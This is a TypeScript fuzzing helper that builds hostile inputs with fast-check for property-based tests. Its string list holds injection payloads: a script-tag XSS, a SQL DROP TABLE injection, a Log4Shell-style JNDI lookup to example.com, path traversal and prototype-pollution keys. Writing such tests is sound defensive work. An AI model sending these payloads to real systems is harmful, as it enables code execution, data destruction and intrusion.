/** What people and programs send who mean harm, or who are only careless: texts, JSON values, and changes to good ones. */
import fc from 'fast-check';

export const HOSTILE_TEXTS = [
  '',
  ' ',
  '.',
  '..',
  '../..',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'null',
  '\u0000',
  'a\nb',
  'a\r\nb',
  '\u202egnp.exe',
  '\u200f',
  '\u200b',
  '\ufeff',
  '🧦',
  '👨‍👩‍👧‍👦',
  '\ud800',
  'e\u0301',
  '＜script＞',
  '<script>alert(1)</script>',
  "'; DROP TABLE products; --",
  '$' + '{jndi:ldap://example.com/a}',
  '%2e%2e%2f',
  'projects/other/locations/us-west1/products/p1',
  'gs://other-bucket/x.png',
  '=1+1',
  'x'.repeat(129),
  '🧦'.repeat(128),
  'x'.repeat(5_000),
];

export const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc.string({ unit: 'binary', maxLength: 140 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
);

/** Any JSON value, hostile texts and field names among them. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  fc.constantFrom(null, true, false, 0, -0, -1, 1.5, 1e308, 2 ** 53, Number.MIN_VALUE, [], {}, [[]]),
  fc.jsonValue({ maxDepth: 3 }),
  fc.dictionary(hostileText, fc.oneof(hostileText, fc.integer()), { maxKeys: 3 }),
);

/** The object with one field replaced, added or left out. */
export function withOneChange(
  good: fc.Arbitrary<Record<string, unknown>>,
): fc.Arbitrary<{ changed: Record<string, unknown>; field: string }> {
  return good.chain((object) =>
    fc.oneof(
      fc.tuple(fc.constantFrom(...Object.keys(object)), hostileValue).map(([field, value]) => {
        return { field, changed: { ...object, [field]: value } };
      }),
      fc.constantFrom(...Object.keys(object)).map((field) => {
        return { field, changed: Object.fromEntries(Object.entries(object).filter(([name]) => name !== field)) };
      }),
      fc.tuple(hostileText, hostileValue).map(([field, value]) => {
        return { field, changed: Object.fromEntries([...Object.entries(object), [field, value]]) };
      }),
    ),
  );
}
